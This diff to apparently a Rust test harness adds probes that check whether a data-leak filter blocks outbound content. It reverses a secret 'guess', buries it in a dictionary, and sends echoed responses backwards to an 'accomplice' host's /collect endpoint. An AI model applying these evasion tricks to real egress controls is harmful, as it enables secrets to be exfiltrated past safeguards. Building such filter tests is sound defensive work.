@@ -14,6 +14,9 @@ use crate::{
 /// The number of characters in one piece of a long text.
 const PIECE: usize = 500;
 
+/// The number of bytes that the echo endpoint returns in all its encodings.
+pub(crate) const FILLER: usize = 4 << 10;
+
 /// The largest number of pieces to report.
 const PIECES: usize = 64;
 
@@ -171,6 +174,50 @@ pub(crate) fn echo() -> Vec<Report> {
     vec![report_in_pieces("headers", &headers), report_in_pieces("body", &String::from_utf8_lossy(&response.body))]
 }
 
+/// Sends a long body to the echo endpoint, and the response to the other host, backwards.
+pub(crate) fn echo_backwards() -> Vec<Report> {
+    let filler = "f".repeat(FILLER).into_bytes();
+    let echo = match post(&format!("https://{HOST}/echo"), filler) {
+        Ok(response) => response,
+        error => return vec![text("echo", &outcome(&error))],
+    };
+    let headers: String = echo.headers.iter().map(|Header { name, value }| format!("{name}: {value}\n")).collect();
+    let collected = post(&format!("https://{BARE_HOST}/collect"), backwards(headers.as_bytes(), &echo.body));
+    vec![text("collected", &outcome(&collected)), number("bytes", echo.body.len())]
+}
+
+pub(crate) fn backwards(headers: &[u8], body: &[u8]) -> Vec<u8> {
+    headers.iter().chain(body).rev().copied().collect()
+}
+
+pub(crate) fn guess_in_url(reversed: &str) -> Vec<Report> {
+    vec![text("guess", &get(BARE_HOST, &format!("/bare?guess={}", reverse(reversed))))]
+}
+
+pub(crate) fn guess_in_header(reversed: &str) -> Vec<Report> {
+    vec![text("guess", &with_header(HOST, "/ok", "X-Guess", &reverse(reversed)))]
+}
+
+/// Sends a dictionary that contains the guess.
+pub(crate) fn guess_in_body(reversed: &str) -> Vec<Report> {
+    let mut dictionary: Vec<String> = (0..1_000).map(|number| format!("word-{number}")).collect();
+    dictionary.insert(500, reverse(reversed));
+    vec![text("guess", &outcome(&post(&format!("https://{HOST}/echo"), dictionary.join("\n").into_bytes())))]
+}
+
+/// Reports what the accomplice's server returns.
+pub(crate) fn guess_by_accomplice(reversed: &str) -> Vec<Report> {
+    match send_request(Method::Get, &format!("https://{BARE_HOST}/bare?{reversed}"), &[]) {
+        // In reverse, because the service's own response must not contain it either.
+        Ok(response) => vec![text("response", &reverse(&String::from_utf8_lossy(&response.body)))],
+        error => vec![text("response", &outcome(&error))],
+    }
+}
+
+pub(crate) fn reverse(text: &str) -> String {
+    text.chars().rev().collect()
+}
+
 pub(crate) fn report_in_pieces(name: &str, long: &str) -> Report {
     let characters: Vec<char> = long.chars().collect();
     let pieces = characters.chunks(PIECE).take(PIECES).map(|piece| piece.iter().collect()).collect();
@@ -185,6 +232,10 @@ fn send_request(method: Method, url: &str, headers: &[(String, String)]) -> Resu
     let body = matches!(method, Method::Post).then(|| b"hello=echo".to_vec());
     let headers = headers.iter().map(|(name, value)| Header { name: name.clone(), value: value.clone() }).collect();
     send(&Request { method, url: url.to_owned(), headers, body })
+}
+
+fn post(url: &str, body: Vec<u8>) -> Result<Response, http::Error> {
+    send(&Request { method: Method::Post, url: url.to_owned(), headers: Vec::new(), body: Some(body) })
 }
 
 /// Formats the result of a request for tests: `sent 200`, or the reason, such as `denied: endpoint`.
